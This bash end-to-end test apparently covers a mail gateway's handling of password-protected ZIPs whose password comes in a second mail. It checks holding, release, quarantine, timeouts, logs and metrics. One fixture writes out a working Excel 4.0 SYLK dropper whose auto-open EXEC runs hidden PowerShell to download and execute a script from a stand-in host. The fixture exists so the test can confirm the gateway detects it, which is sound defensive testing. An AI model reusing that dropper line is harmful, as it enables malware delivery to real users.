#!/usr/bin/env bash
# End-to-end PPAP (the password in a second mail) through a real Postfix on
# 127.0.0.1 with emogate's SQLite state store (private instances under a
# temp dir, started and stopped here). Fixtures are generated: AES-256 ZIPs
# made by 7-Zip around a macro-free .docx and around an Excel 4.0 macro
# dropper (SYLK, auto-open EXEC), mails written here.
#  - mail 1 (AES ZIP, no password) is held: 250 to the client, not delivered,
#    listed as awaiting-password;
#  - a password mail from another sender unlocks nothing (delivered, untagged);
#  - the password mail (ISO-2022-JP, 「パスワード：…」) from the same sender:
#    delivered tagged `X-Emogate-PPAP: password for <queue id of mail 1>`,
#    and mail 1 reaches the sink once, with one X-Emogate-PPAP header naming
#    the password mail's queue id (the password itself never shown);
#  - the dropper ZIP, unlocked the same way, stays quarantined (malicious);
#  - with [ppap] hold_in = "postfix" the message also sits in Postfix's hold
#    queue, and the store's copy is the one released;
#  - a message whose password mail never comes gets on_timeout (keep: in
#    quarantine, listed as timed out) from the sweeper, with no mail arriving;
#  - log lines per event with both queue ids, and the PPAP metrics.
# Needs root (Postfix's master must start as root) and 7z: exits 77 otherwise.
set -uo pipefail

[ "$(id -u)" = 0 ] || { echo "SKIP: needs root to start a private Postfix instance"; exit 77; }
command -v 7z >/dev/null || { echo "SKIP: 7z (p7zip-full) not installed, needed to make AES ZIPs"; exit 77; }
EMOGATE_BIN=${EMOGATE_BIN:?EMOGATE_BIN not set}
HERE=$(cd "$(dirname "$0")" && pwd)
T=$(mktemp -d /tmp/emogate-ppap.XXXXXX)
PF_SMTP_PORT=${PF_SMTP_PORT:-2771}
PF_SINK_PORT=${PF_SINK_PORT:-2772}
METRICS_PORT=${METRICS_PORT:-2773}
. "$HERE/lib/postfix_env.sh"
. "$HERE/lib/checks.sh"  # skips (77) without Postfix, nobody or group postfix
. "$HERE/lib/mail_hosts.sh"  # reinject_sendmail

SOCK=$T/run/emogate.sock
mkdir -p "$T/run" "$T/state" "$T/fx"
chmod 755 "$T"
chown nobody "$T/state"; chmod 700 "$T/state"
write_config() {  # write_config HOLD_IN
    cat >"$T/emogate.toml.new" <<CFG
[limits]
temp_dir = "/tmp"
[rules]
paths = []
[actions]
clean = "tag"
suspicious = "hold"
malicious = "quarantine"
on_error = "tempfail"
[milter]
socket = "unix:$SOCK"
user = "nobody"
group = "postfix"
workers = 2
[quarantine]
dir = "$T/quarantine"
after = "discard"
sendmail = "$T/sendmail"
[ppap]
window = "60s"
on_timeout = "keep"
hold_in = "$1"
[state]
backend = "sqlite"
path = "$T/state/state.db"
[log]
to_stderr = true
json_path = "$T/emogate.jsonl"
[metrics]
listen = "127.0.0.1:$METRICS_PORT"
CFG
    mv "$T/emogate.toml.new" "$T/emogate.toml"
}
write_config emogate
# Releases re-inject as `emogate quarantine release` does, through
# [quarantine] sendmail: here a sendmail stand-in that hands the message by
# SMTP to a second smtpd of this Postfix without milters (Postfix's own
# sendmail refuses a private config directory to the daemon's user nobody).
REINJECT_PORT=${REINJECT_PORT:-2774}
reinject_sendmail "$T" "$REINJECT_PORT"

# --- fixtures
PASSWORD=Xk7pQ2mZ
(
    cd "$T/fx" || exit 1
    python3 - <<'PY'
import zipfile
with zipfile.ZipFile("見積書.docx", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    z.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>見積書</w:t></w:r></w:p></w:body></w:document>')
PY
    printf 'ID;P\r\nC;X1;Y1;EEXEC("cmd /c powershell -w hidden -c iex (New-Object Net.WebClient).DownloadString(\x27http://dl.example/p\x27)")\r\nC;X1;Y2;EHALT()\r\nNN;NAuto_open;ER1C1\r\nE\r\n' >請求書.slk
    7z a -tzip -mem=AES256 "-p$PASSWORD" good.zip 見積書.docx >/dev/null &&
        7z a -tzip -mem=AES256 "-p$PASSWORD" bad.zip 請求書.slk >/dev/null
) || { bad "fixtures: 7z failed"; exit 1; }

archive_mail() {  # archive_mail TEST_ID FROM ZIP: mail 1 of a pair
    printf 'From: Tanaka <%s>\r\nTo: suzuki@rcpt.example.jp\r\nX-Test-Id: %s\r\n' "$2" "$1"
    printf 'Subject: =?UTF-8?B?%s?=\r\nMIME-Version: 1.0\r\n' "$(printf 'お見積書の送付' | base64)"
    printf 'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=ISO-2022-JP\r\n\r\n'
    printf 'お見積書を送付いたします。\nパスワードは別途お送りします。\n' | iconv -f UTF-8 -t ISO-2022-JP
    printf '\r\n--b1\r\nContent-Type: application/zip; name="mitsumori.zip"\r\n'
    printf 'Content-Disposition: attachment; filename="mitsumori.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    base64 "$3"
    printf '\r\n--b1--\r\n'
}
password_mail() {  # password_mail TEST_ID FROM: the follow-up, ISO-2022-JP
    printf 'From: Tanaka <%s>\r\nTo: suzuki@rcpt.example.jp\r\nX-Test-Id: %s\r\n' "$2" "$1"
    printf 'Subject: =?UTF-8?B?%s?=\r\nMIME-Version: 1.0\r\n' "$(printf '【パスワード通知】お見積書の送付' | base64)"
    printf 'Content-Type: text/plain; charset=ISO-2022-JP\r\n\r\n'
    printf '先ほどお送りしたファイルのパスワードをお知らせします。\n\nパスワード：%s\n\nよろしくお願いいたします。\n' "$PASSWORD" |
        iconv -f UTF-8 -t ISO-2022-JP
}
send() {  # send FROM FILE: prints the final reply
    python3 - "$PF_SMTP_PORT" "$1" "$2" <<'PY'
import smtplib, sys
port, sender, path = int(sys.argv[1]), sys.argv[2], sys.argv[3]
data = open(path, "rb").read().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
try:
    s = smtplib.SMTP("127.0.0.1", port, local_hostname="client.emogate.test", timeout=60)
    s.mail(sender)
    s.rcpt("suzuki@rcpt.example.jp")
    try:
        code, text = s.data(data)
    except smtplib.SMTPDataError as e:
        code, text = e.smtp_code, e.smtp_error
    print(code, text.decode(errors="replace"))
    s.quit()
except (OSError, smtplib.SMTPException) as e:
    print("000 connection error: %s" % e)
PY
}
TANAKA=tanaka@sender.example.jp
archive_mail late1 late@sender.example.jp "$T/fx/good.zip" >"$T/fx/late1.eml"
archive_mail ppap1 "$TANAKA" "$T/fx/good.zip" >"$T/fx/ppap1.eml"
archive_mail ppapbad "$TANAKA" "$T/fx/bad.zip" >"$T/fx/ppapbad.eml"
password_mail pwother attacker@evil.example >"$T/fx/pwother.eml"
password_mail pw1 "$TANAKA" >"$T/fx/pw1.eml"
password_mail pw2 "$TANAKA" >"$T/fx/pw2.eml"
archive_mail ppaphold "$TANAKA" "$T/fx/good.zip" >"$T/fx/ppaphold.eml"
password_mail pw3 "$TANAKA" >"$T/fx/pw3.eml"

start_milter() {
    "$EMOGATE_BIN" milter --config "$T/emogate.toml" --foreground >>"$T/emogate.log" 2>&1 &
    MILTER_PID=$!
    local i; for i in $(seq 1 100); do [ -S "$SOCK" ] && return 0; sleep 0.1; done
    return 1
}
start_milter || { cat "$T/emogate.log"; bad "emogate did not start"; exit 1; }
pf_configure "unix:$SOCK" tempfail
echo "127.0.0.1:$REINJECT_PORT inet n - n - - smtpd -o smtpd_milters=" >>"$PF_CONF/master.cf"
pf_start || { bad "postfix did not start"; exit 1; }

code_of() { cut -c1-3 <<<"$1"; }
last_qid() { python3 -c 'import json,sys; print(json.loads(open(sys.argv[1]).read().splitlines()[-1])["queue_id"])' "$T/emogate.jsonl"; }
qlist() { "$EMOGATE_BIN" quarantine --config "$T/emogate.toml" list; }
metrics() { python3 -c "import urllib.request,sys; sys.stdout.write(urllib.request.urlopen('http://127.0.0.1:$METRICS_PORT/metrics', timeout=5).read().decode())"; }
not_delivered() { ! grep -l -s "^X-Test-Id: $1" "$SINK_DIR"/* >/dev/null; }
delivered_count() { grep -l -s "^X-Test-Id: $1" "$SINK_DIR"/* 2>/dev/null | wc -l; }

# --- the message whose password never comes (its window runs meanwhile)
r=$(send late@sender.example.jp "$T/fx/late1.eml")
check "timeout mail: 250 at client ($r)" [ "$(code_of "$r")" = 250 ]
LATE_QID=$(last_qid)
LATE_SENT=$(date +%s)

# --- mail 1: held
r=$(send "$TANAKA" "$T/fx/ppap1.eml")
check "mail 1: 250 at client ($r)" [ "$(code_of "$r")" = 250 ]
Q1=$(last_qid)
check "mail 1: logged held with its queue id" grep -q "^emogate: $Q1: ppap=held id=" "$T/emogate.log"
check "mail 1: the message line says why" grep -q "^emogate: $Q1: verdict=suspicious action=discard findings=encrypted_archive@mitsumori.zip" "$T/emogate.log"
sleep 2
check "mail 1: not delivered while waiting" not_delivered ppap1
list=$(qlist)
check "mail 1: listed as awaiting-password ($list)" grep -Eq "^ppap:[^ ]+  .*  <$TANAKA>  suzuki@rcpt.example.jp  awaiting-password  queue_id=$Q1  expires=" <<<"$list"
check "mail 1: nothing in Postfix's queue" bash -c "[ -z \"\$(postqueue -c '$PF_CONF' -j)\" ]"
m=$(metrics)
check "metrics: held counted" grep -q '^emogate_ppap_held_total 2$' <<<"$m"
check "metrics: 2 pending" grep -q '^emogate_ppap_pending 2$' <<<"$m"

# --- a password mail from another sender unlocks nothing
r=$(send attacker@evil.example "$T/fx/pwother.eml")
check "other sender: 250 at client ($r)" [ "$(code_of "$r")" = 250 ]
f=$(sink_file pwother) && {
    check "other sender: delivered without X-Emogate-PPAP" bash -c "! grep -q '^X-Emogate-PPAP' '$f'"
} || bad "other sender: not delivered"
sleep 2
check "other sender: mail 1 still not delivered" not_delivered ppap1
check "other sender: mail 1 still awaiting" grep -q "awaiting-password  queue_id=$Q1" <<<"$(qlist)"

# --- the password mail: mail 1 released once, tagged
r=$(send "$TANAKA" "$T/fx/pw1.eml")
check "password mail: 250 at client ($r)" [ "$(code_of "$r")" = 250 ]
Q2=$(last_qid)
f=$(sink_file pw1) && {
    check "password mail: tagged 'password for $Q1'" grep -q "^X-Emogate-PPAP: password for $Q1\$" "$f"
} || bad "password mail: not delivered"
f=$(sink_file ppap1) && {
    check "mail 1: one X-Emogate-PPAP header" [ "$(grep -c '^X-Emogate-PPAP:' "$f")" = 1 ]
    hdr=$(python3 -c 'import email,sys; print(email.message_from_binary_file(open(sys.argv[1],"rb"))["X-Emogate-PPAP"].replace("\r","").replace("\n",""))' "$f")
    check "mail 1: it names the password mail $Q2 and where ($hdr)" grep -Eq "^released by password mail $Q2 \(password found in text/plain part 1, line [0-9]+, " <<<"$hdr"
    check "mail 1: tagged clean" grep -q "^X-Emogate-Verdict: clean" "$f"
    check "mail 1: password not shown" bash -c "! grep -q '$PASSWORD' '$f'"
} || bad "mail 1: not released"
sleep 3
check "mail 1: delivered exactly once" [ "$(delivered_count ppap1)" = 1 ]
check "log: matched with both queue ids" grep -q "^emogate: $Q1: ppap=matched id=[^ ]* password_mail=$Q2 " "$T/emogate.log"
check "log: released with both queue ids" grep -q "^emogate: $Q1: ppap=released id=[^ ]* password_mail=$Q2 " "$T/emogate.log"
check "log: password never logged" bash -c "! grep -q '$PASSWORD' '$T/emogate.log'"
check "list: released-by-ppap with the password mail" grep -q "released-by-ppap  queue_id=$Q1  password_mail=$Q2" <<<"$(qlist)"

# --- a dropper inside: unlocked, rescanned malicious, stays quarantined
r=$(send "$TANAKA" "$T/fx/ppapbad.eml")
check "dropper: 250 at client ($r)" [ "$(code_of "$r")" = 250 ]
Q3=$(last_qid)
check "dropper: held" grep -q "^emogate: $Q3: ppap=held" "$T/emogate.log"
r=$(send "$TANAKA" "$T/fx/pw2.eml")
Q4=$(last_qid)
f=$(sink_file pw2) && check "dropper's password mail: tagged for $Q3" grep -q "^X-Emogate-PPAP: password for $Q3\$" "$f" ||
    bad "dropper's password mail: not delivered"
for i in $(seq 1 100); do grep -q "^emogate: $Q3: ppap=flagged" "$T/emogate.log" && break; sleep 0.1; done
check "dropper: logged flagged, malicious, quarantined" grep -q "^emogate: $Q3: ppap=flagged id=[^ ]* password_mail=$Q4 (verdict=malicious action=quarantine kept in quarantine=" "$T/emogate.log"
list=$(qlist)
check "dropper: in quarantine with xlm_macro ($list)" grep -q "<$TANAKA>  suzuki@rcpt.example.jp  malicious  .*xlm_macro@mitsumori.zip" <<<"$list"
check "dropper: record says password-matched" grep -q "password-matched  queue_id=$Q3  password_mail=$Q4" <<<"$list"
sleep 2
check "dropper: not delivered" not_delivered ppapbad

# --- hold_in = "postfix" (SIGHUP): Postfix's hold queue keeps a copy, the
# store the one that is released
reloads() { grep -c "reloaded configuration" "$T/emogate.log" 2>/dev/null || true; }
before=$(reloads)
write_config postfix
kill -HUP "$MILTER_PID"
for i in $(seq 1 50); do [ "$(reloads)" -gt "$before" ] && break; sleep 0.1; done
check "reload to hold_in = postfix" [ "$(reloads)" -gt "$before" ]
r=$(send "$TANAKA" "$T/fx/ppaphold.eml")
check "hold_in postfix: 250 at client ($r)" [ "$(code_of "$r")" = 250 ]
Q5=$(last_qid)
sleep 0.5
check "hold_in postfix: $Q5 in Postfix's hold queue" bash -c "postqueue -c '$PF_CONF' -j | grep '\"queue_id\": *\"$Q5\"' | grep -q '\"queue_name\": *\"hold\"'"
check "hold_in postfix: awaiting in the store" grep -q "awaiting-password  queue_id=$Q5" <<<"$(qlist)"
r=$(send "$TANAKA" "$T/fx/pw3.eml")
Q6=$(last_qid)
f=$(sink_file ppaphold) && check "hold_in postfix: released from the store by $Q6" grep -q "^X-Emogate-PPAP: released by password mail $Q6" "$f" ||
    bad "hold_in postfix: not released"

# --- timeout: the sweeper applies on_timeout = keep with no mail arriving
now_s=$(date +%s)
tries=$(( (LATE_SENT + 60 + 15 - now_s) * 2 ))
[ "$tries" -gt 0 ] || tries=1
for i in $(seq 1 "$tries"); do grep -q "^emogate: $LATE_QID: ppap=timed_out" "$T/emogate.log" && break; sleep 0.5; done
check "timeout: logged with on_timeout=keep" grep -q "^emogate: $LATE_QID: ppap=timed_out id=[^ ]* (no password mail within 1m; on_timeout=keep quarantine=" "$T/emogate.log"
list=$(qlist)
check "timeout: in quarantine, marked ($list)" grep -q "<late@sender.example.jp>  suzuki@rcpt.example.jp  suspicious  encrypted_archive@mitsumori.zip  ppap=timed-out" <<<"$list"
check "timeout: record timed-out" grep -q "timed-out  queue_id=$LATE_QID" <<<"$list"
check "timeout: not delivered" not_delivered late1
m=$(metrics)
check "metrics: released counted" grep -q '^emogate_ppap_released_total 2$' <<<"$m"
check "metrics: matched counted" grep -q '^emogate_ppap_matched_total 3$' <<<"$m"
check "metrics: timed out counted" grep -q '^emogate_ppap_timed_out_total 1$' <<<"$m"
check "metrics: none pending" grep -q '^emogate_ppap_pending 0$' <<<"$m"
check "state store 0600, owned by nobody" [ "$(stat -c '%U %a' "$T/state/state.db")" = "nobody 600" ]

echo "--- emogate log (ppap lines)"; grep "ppap" "$T/emogate.log" | tail -20
[ "$FAILS" = 0 ] || { echo "$FAILS check(s) failed"; exit 1; }
echo "all checks passed"
